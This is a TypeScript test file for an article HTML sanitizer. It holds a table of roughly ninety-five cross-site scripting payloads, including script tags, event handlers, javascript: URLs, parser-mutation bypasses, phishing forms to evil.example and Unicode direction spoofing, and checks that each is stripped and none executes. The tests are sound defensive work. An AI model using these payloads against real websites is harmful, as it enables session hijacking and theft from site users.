import { afterEach, describe, expect, test } from 'vitest';
import { isPlainAddress, sanitize, sanitizeAgain } from '../../../utils/article/sanitize.ts';
import { parse } from '../../support/page-under-test.ts';

const TAGS = new Set(
  (
    'p h2 h3 h4 h5 h6 ul ol li dl dt dd blockquote q cite figure figcaption img a em strong b i u s del ins mark sub sup small br hr ' +
    'table caption thead tbody tfoot tr th td colgroup col pre code kbd samp var abbr time bdi ruby rt rp div span'
  ).split(' '),
);
const ATTRIBUTES = new Set('href src alt lang dir colspan rowspan scope datetime start reversed width height data-embed'.split(' '));
const CONTROLS = /[\u202A-\u202E\u2066-\u2069]/;
const WORDS = 'كلمات لا ضرر فيها';

const again = (html: string): string => sanitizeAgain(html, window);
const story = (html: string): string => sanitize(parse(`<main>${html}</main>`).querySelector('main')!, window).html;

/** Everything in the markup that the allow-list does not name, in words. */
function faultsOf(html: string): string[] {
  const { body, head } = parse(`<!doctype html><body>${html}`);
  const faults = Array.from(head.children, (element) => `<${element.localName}> in the head`);
  for (const element of Array.from(body.querySelectorAll('*'))) {
    if (!TAGS.has(element.localName) || element.namespaceURI !== 'http://www.w3.org/1999/xhtml') faults.push(`<${element.localName}>`);
    for (const { name, value } of Array.from(element.attributes)) {
      if (!ATTRIBUTES.has(name)) faults.push(`${name}=`);
      if ((name === 'href' || name === 'src') && !/^https?:\/\/[^@]*$/i.test(value)) faults.push(`${name}=${value.slice(0, 40)}`);
      if (value.length > 4_096) faults.push(`${name} of ${value.length} characters`);
      if (CONTROLS.test(value)) faults.push(`a control in ${name}`);
    }
  }
  if (CONTROLS.test(body.textContent)) faults.push('a control in the words');
  return faults;
}

const HIT = 'window.hit=1';
/** Each with the words beside it that must be left. */
const PAYLOADS: readonly (readonly [what: string, html: string])[] = [
  ['a script', `<script>${HIT}</script>`],
  ['a script with an address', '<script src="https://evil.example/a.js"></script>'],
  ['a script in capitals with a slash', `<ScRiPt/x>${HIT}</sCrIpT >`],
  ['a script cut in two', `<scr<script>ipt>${HIT}</scr</script>ipt>`],
  ['a script in svg', `<svg><script>${HIT}</script></svg>`],
  ['a script in svg by href', '<svg><script href="data:,window.hit=1"></script></svg>'],
  ['an image that fails', `<img src=x onerror=${HIT}>`],
  ['an image with an address and a handler', `<img src="https://img.example/a.jpg" onload="${HIT}">`],
  ['a handler after a slash', `<img/src="https://img.example/a.jpg"/onerror=${HIT}>`],
  ['a handler on a paragraph', `<p onmouseover="${HIT}" onfocus="${HIT}" tabindex="1" autofocus>نص</p>`],
  ['a handler on a link', `<a href="https://a.example/" onclick="${HIT}">نص</a>`],
  ['a handler of details', `<details open ontoggle="${HIT}"><summary>نص</summary></details>`],
  ['a handler of a film', `<video onloadstart="${HIT}"><source onerror="${HIT}"></video>`],
  ['a handler of a marquee', `<marquee onstart="${HIT}">نص</marquee>`],
  ['a handler of an animation', `<svg><animate onbegin="${HIT}" attributeName=x dur=1s></svg>`],
  ['a handler of a body', `<body onload="${HIT}">`],
  ['a handler of a transition', `<p style="transition:1s" ontransitionend="${HIT}">نص</p>`],
  ['javascript as an address, in a link', `<a href="javascript:${HIT}">نص</a>`],
  ['javascript as an address, in capitals', `<a href="JaVaScRiPt:${HIT}">نص</a>`],
  ['javascript as an address, after spaces and controls', `<a href=" &#1; javascript:${HIT}">نص</a>`],
  ['javascript as an address, cut by tab and line break', `<a href="java&#9;scr&#10;ipt:${HIT}">نص</a>`],
  ['javascript as an address, by entities', `<a href="&#x6A;avascript&colon;${HIT}">نص</a>`],
  ['javascript as an address, in a picture', `<img src="javascript:${HIT}">`],
  ['javascript as an address, in a quotation’s source', `<blockquote cite="javascript:${HIT}">نص</blockquote>`],
  ['javascript as an address, in a form', `<form action="javascript:${HIT}"><input type=submit></form>`],
  ['javascript as an address, in a button', `<button formaction="javascript:${HIT}">نص</button>`],
  ['javascript as an address, by xlink', `<svg><a xlink:href="javascript:${HIT}"><text>نص</text></a></svg>`],
  ['javascript as an address, in a frame', `<iframe src="javascript:parent.${HIT}"></iframe>`],
  ['javascript as an address, in an object', `<object data="javascript:${HIT}"></object>`],
  ['javascript as an address, in an embed', `<embed src="javascript:${HIT}">`],
  ['vbscript:', '<a href="vbscript:msgbox(1)">نص</a>'],
  ['data: in a link', '<a href="data:text/html,<script>window.hit=1</script>">نص</a>'],
  ['data: in a picture', '<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="x">'],
  ['data: in a plain picture', '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" alt="x">'],
  ['blob:', '<a href="blob:https://a.example/1">نص</a>'],
  ['file:', '<img src="file:///etc/passwd">'],
  ['an extension’s address', '<img src="chrome-extension://abc/icon.png"><a href="moz-extension://abc/x">نص</a>'],
  ['a relative address', '<a href="/logout">نص</a><img src="//img.example/a.jpg">'],
  ['a name and password in a link', '<a href="https://bank.example@evil.example/">نص</a>'],
  ['a password in a picture', '<img src="https://a:b@img.example/a.jpg">'],
  ['an svg', `<svg onload="${HIT}"><circle r=9 /><text>x</text></svg>`],
  ['an svg that uses another', '<svg><use href="https://evil.example/a.svg#x"></use><image href="https://evil.example/a.png"/></svg>'],
  ['foreign content', `<svg><foreignObject><img src=x onerror=${HIT}></foreignObject></svg>`],
  ['mathematics', `<math><mtext><img src=x onerror=${HIT}></mtext><maction actiontype="statusline#http://evil.example">x</maction></math>`],
  ['mathematics with a link', `<math href="javascript:${HIT}"><mi>x</mi></math>`],
  ['a style sheet', '<style>@import "https://evil.example/a.css"; p { position: fixed }</style>'],
  ['a style that ends its own element', `<style><!--</style><img src=x onerror=${HIT}>--></style>`],
  ['a style attribute', '<p style="position:fixed;inset:0;background:url(https://evil.example/a.png)">نص</p>'],
  ['a linked sheet', '<link rel="stylesheet" href="https://evil.example/a.css"><link rel="prefetch" href="https://evil.example/b">'],
  [
    'a form',
    '<form action="https://evil.example/"><input name="password" type="password"><textarea>x</textarea><select><option>x</option></select></form>',
  ],
  ['a frame', '<iframe src="https://evil.example/"></iframe>'],
  ['a frame’s own document', `<iframe srcdoc="<script>parent.${HIT}</script>"></iframe>`],
  ['a frame set', '<frameset><frame src="https://evil.example/"></frameset>'],
  ['a portal', '<portal src="https://evil.example/"></portal><fencedframe src="https://evil.example/"></fencedframe>'],
  ['srcset', '<img src="https://img.example/a.jpg" srcset="https://evil.example/a.jpg 2x" sizes="100vw">'],
  ['the sources of a picture', '<picture><source srcset="https://evil.example/a.jpg"><img src="https://img.example/a.jpg"></picture>'],
  ['a background', '<table background="https://evil.example/a.png"><tr><td background="https://evil.example/b.png">نص</td></tr></table>'],
  ['a poster', '<video poster="https://evil.example/a.png"></video>'],
  ['a ping', '<a href="https://a.example/" ping="https://evil.example/" target="_blank" download rel="opener">نص</a>'],
  [
    'an image map',
    '<img src="https://img.example/a.jpg" usemap="#m" ismap><map name="m"><area href="javascript:x" coords="0,0,9,9"></map>',
  ],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
  ['a base', '<base href="https://evil.example/">'],
  ['a template', `<template><script>${HIT}</script><p>x</p></template>`],
  ['a shadow root', `<div><template shadowrootmode="open"><script>${HIT}</script></template></div>`],
  ['a slot and a part', '<div slot="x" part="y" is="z-z">نص</div>'],
  ['an element of the page’s own making', '<x-evil data-x="1">نص</x-evil>'],
  ['noscript that mutates', `<noscript><p title="</noscript><img src=x onerror=${HIT}>"></noscript>`],
  ['noembed and noframes', `<noembed><img src=x onerror=${HIT}></noembed><noframes><img src=x onerror=${HIT}></noframes>`],
  ['a comment that ends early', `<!--><img src=x onerror=${HIT}>-->`],
  ['a comment that ends with a bang', `<!-- --!><img src=x onerror=${HIT}> -->`],
  ['a CDATA section', `<![CDATA[><img src=x onerror=${HIT}>]]>`],
  ['a processing instruction', `<?xml-stylesheet href="javascript:${HIT}"?>`],
  ['a title that mutates', `<svg></p><title><style></title><img src=x onerror=${HIT}></style>`],
  ['mathematics that mutate', `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${HIT}>`],
  ['a table that mutates', `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${HIT}&gt;">`],
  ['a select that mutates', `<select><style></select><img src=x onerror=${HIT}></style></select>`],
  ['a listing', `<xmp><img src=x onerror=${HIT}></xmp>`],
  ['an attribute that ends its element', `<p title='"><img src=x onerror=${HIT}>'>نص</p>`],
  ['an attribute by backticks', `<img src=\`x\` alt=\`\`onerror=${HIT}\`>`],
  [
    'ids and names that shadow',
    '<a id="body" name="cookie" href="https://a.example/">نص</a><img id="querySelector" name="getElementById" src="https://img.example/a.jpg">',
  ],
  ['a form that shadows', '<form id="attributes"><input name="parentNode"><input name="nextSibling"><input id="removeAttribute"></form>'],
  ['classes', '<p class="safa-dialog reader-bar fixed inset-0">نص</p>'],
  ['data attributes', '<p data-safa-node="1" data-controller="x">نص</p>'],
  ['an embed’s name that is none', '<figure data-embed="x&quot; onload=x"><a href="https://a.example/">نص</a></figure>'],
  ['roles and labels', '<p role="button" aria-label="اضغط" aria-hidden="true">نص</p>'],
  ['what can be edited or dragged', '<p contenteditable accesskey="s" draggable="true" inert hidden popover popovertarget="x">نص</p>'],
  ['right-to-left override', '<p>تحويل \u202Egnp.exe\u202C نص</p>'],
  ['isolates', '<p>\u2066abc\u2069 \u2067نص\u2069 \u2068x\u2069</p>'],
  ['controls by entity', '<p>&#x202E;abc&#8238; نص</p>'],
  ['controls in alt', '<img src="https://img.example/a.jpg" alt="\u202Egpj.سد">'],
  ['an enormous attribute', `<img src="https://img.example/a.jpg" alt="${'ا'.repeat(100_000)}">`],
  ['an enormous address', `<a href="https://a.example/${'a'.repeat(100_000)}">نص</a>`],
  ['a direction that is none', '<p dir="expression(alert(1))">نص</p>'],
  ['a hundred boxes in one another', `${'<div>'.repeat(100)}نص${'</div>'.repeat(100)}`],
  ['elements that are never closed', '<b><i><u><a href="https://a.example/"><table><tr><td>نص'],
];

afterEach(() => Reflect.deleteProperty(window, 'hit'));

describe('nothing but the allow-list comes out, and harmless words stay', () => {
  test.each(PAYLOADS)('%s', (_, payload) => {
    for (const [make, before, after] of [
      [again, `<p>${WORDS} ١</p>`, ''],
      [story, `<p>${WORDS} ١</p>`, ''],
      [again, `<p>${WORDS} ١ `, ` ${WORDS} ٢</p>`],
    ] as const) {
      const html = make(before + payload + after);
      expect(faultsOf(html)).toEqual([]);
      expect(html).toContain(`${WORDS} ١`);
    }
  });
  test('the table is long enough to mean something', () => expect(PAYLOADS.length).toBeGreaterThanOrEqual(60));
});

test('sanitised again, the output is unchanged', () => {
  for (const [what, payload] of PAYLOADS) {
    const once = again(`<div><p>${WORDS}</p>${payload}<p>${WORDS}</p></div>`);
    expect(again(once), what).toBe(once);
  }
});

test('nothing of it runs when it is shown', async () => {
  const holder = document.body.appendChild(document.createElement('div'));
  for (const [what, payload] of PAYLOADS) {
    holder.innerHTML = again(payload.replaceAll(/https:\/\/\w+\.example/g, 'https://127.0.0.1:9'));
    expect(Reflect.get(window, 'hit'), what).toBeUndefined();
  }
  await new Promise((resolve) => setTimeout(resolve, 50));
  holder.remove();
  expect(Reflect.get(window, 'hit')).toBeUndefined();
});

describe('what a story is made of comes out as it went in', () => {
  test.each([
    '<p>سطر <b>مهم</b> و<em>مائل</em> و<a href="https://a.example/%D8%B3%D8%AF?x=1&amp;y=2#z">رابط</a>.</p>',
    '<h2>فصل</h2><h3>باب</h3>',
    '<ul><li>نقطة<ul><li>فرع</li></ul></li></ul><ol start="3" reversed=""><li>ثالث</li></ol>',
    '<dl><dt>السد</dt><dd>جدار يحبس الماء</dd></dl>',
    '<blockquote><p>لم نر ماء كهذا</p><cite>مرعي</cite></blockquote>',
    '<figure><img src="https://img.example/a.jpg" alt="السد" width="800" height="450"><figcaption>السد <small>تصوير نورا</small></figcaption></figure>',
    '<figure data-embed="youtube"><a href="https://www.youtube.com/watch?v=a1">فيلم</a></figure>',
    '<table><caption>الأمطار</caption><colgroup><col></colgroup><thead><tr><th scope="col">القرية</th></tr></thead><tbody><tr><td colspan="2" rowspan="1">٩</td></tr></tbody></table>',
    '<pre><code>سطر\n  وسطر</code></pre>',
    '<p dir="ltr" lang="en">A line with <bdi>نص</bdi> and <time datetime="2026-04-12">12 April</time>.</p>',
    '<p>H<sub>2</sub>O، ٣<sup>٢</sup>، <ruby>字<rp>(</rp><rt>حرف</rt><rp>)</rp></ruby><br>سطر</p><hr>',
    '<p>5 &lt; 7 &amp; 7 &gt; 5، &lt;b&gt; ليس وسما</p>',
    '<p>تَشكيلٌ وتطـــويل و٪١٢ و‌فاصل</p>',
  ])('%s', (html) => {
    expect(again(html)).toBe(html);
    expect(story(html)).toBe(html);
  });
});

test('words of elements that are not allowed stay, their code does not', () => {
  expect(again('<section><article><font color="red">نص</font> <center>وسط</center></article></section>')).toBe('نص وسط');
  expect(again(`<p>نص<script>${HIT}</script><style>p{}</style></p>`)).toBe('<p>نص</p>');
});

test('a picture without a sound address goes, a link without one keeps its words', () => {
  expect(again('<p><img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" alt="x">نص <a href="javascript:x">رابط</a></p>')).toBe(
    '<p>نص <a>رابط</a></p>',
  );
});

test.each([
  ['line breaks at the front of preformatted text', '<pre>\n\n\nسطر</pre>'],
  ['carriage returns by entity', '<p>سطر&#13;وسطر</p><p title="x">&#13;&#10;</p>'],
  ['a link in a link', '<a href="https://a.example/">أ<table><tr><td><a href="https://b.example/">ب</a></td></tr></table></a>'],
  ['a table in a paragraph', '<p>أ<table><tr><td>ب</td></tr></table>ج</p>'],
  ['a figure in a paragraph', '<p>أ<figure><img src="https://img.example/a.jpg"></figure>ج</p>'],
  ['rows without a table', '<tr><td>أ</td><td>ب</td></tr>'],
  ['points without a list', '<li>أ<li>ب'],
  ['marks across blocks', '<b>أ<p>ب</b>ج</p>'],
  ['six hundred boxes in one another', `${'<div>'.repeat(600)}نص${'</div>'.repeat(600)}`],
  ['six hundred marks in one another', `${'<b>'.repeat(600)}نص${'</b>'.repeat(600)}`],
  ['a null character', '<p>أ\0ب</p>'],
])('markup that parsers rearrange is settled at once: %s', (_, html) => {
  const once = again(html);
  expect(again(once)).toBe(once);
});

test.each(['', ' ', '<frameset><frame></frameset>', '<html><head></head><frameset>', '</body></html>', '<!-- -->', '<script>'])(
  '«%s» leaves nothing, and is no error',
  (html) => expect(again(html).trim()).toBe(''),
);

test('the words of the fragment are those of the markup', () => {
  const { html, fragment } = sanitize(parse('<main><p>سطر <b>مهم</b></p><script>x</script></main>').querySelector('main')!, window);
  expect(fragment.textContent).toBe('سطر مهم');
  expect(parse(html).body.textContent).toBe('سطر مهم');
  expect(fragment.ownerDocument.defaultView).toBeNull();
});

test.each([
  ['https://a.example/', true],
  ['http://a.example/x?y#z', true],
  ['HTTPS://A.EXAMPLE', true],
  ['https://a.example/@user', true],
  ['https://user@a.example/', false],
  ['https://:pw@a.example/', false],
  ['ftp://a.example/', false],
  [String.raw`javascript:alert(1)//https://a.example`, false],
  ['/x', false],
  ['//a.example', false],
  ['', false],
  [`https://a.example/${'a'.repeat(5_000)}`, false],
])('«%.60s» is a plain address: %s', (address, expected) => expect(isPlainAddress(address)).toBe(expected));
